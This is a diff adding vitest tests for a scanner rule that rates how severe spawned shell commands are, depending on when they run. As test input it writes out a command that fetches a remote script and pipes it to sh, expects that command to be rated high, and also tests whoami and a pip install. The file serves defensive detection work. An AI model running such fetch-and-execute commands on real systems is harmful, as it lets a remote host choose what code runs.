@@ -1,0 +1,30 @@
+import { expect, test } from "vitest";
+import type { Trigger } from "../../analysis/code/code-analysis.ts";
+import { codeOf, effect, saidOfCode, severitiesAt } from "./code.testing.ts";
+import { runsCommand } from "./runs-command.ts";
+
+const TRIGGERS: readonly Trigger[] = ["download", "import", "script", "deferred", "test"];
+
+test("weighs what the command is for, and when it runs", () => {
+  const command = (argument: string): readonly (string | null)[] =>
+    severitiesAt(runsCommand, TRIGGERS, effect("process.spawn", { argument }));
+  expect(command("curl http://example.org/a | sh")).toEqual(["high", "high", "high", "medium", "info"]);
+  expect(command("git describe --tags")).toEqual(["info", "info", "info", "info", "info"]);
+  expect(command("whoami")[0]).toBe("high");
+});
+
+test("says the command once for all places of a file", () => {
+  const one = effect("process.spawn", { callee: "os.system", argument: "curl http://example.org/a | sh" });
+  expect(saidOfCode(runsCommand, codeOf([one, { ...one, line: 7 }]))).toEqual([
+    [
+      "high",
+      "import",
+      "os.system runs curl http://example.org/a | sh, which lets another machine say what runs here. The same stands in 1 more place.",
+    ],
+  ]);
+});
+
+test("of a program that is not known the rest still counts", () => {
+  const install = effect("process.spawn", { argument: "{…} -m pip install other", known: "part" });
+  expect(runsCommand.rate({ ...install, trigger: "build" })).toBe("high");
+});
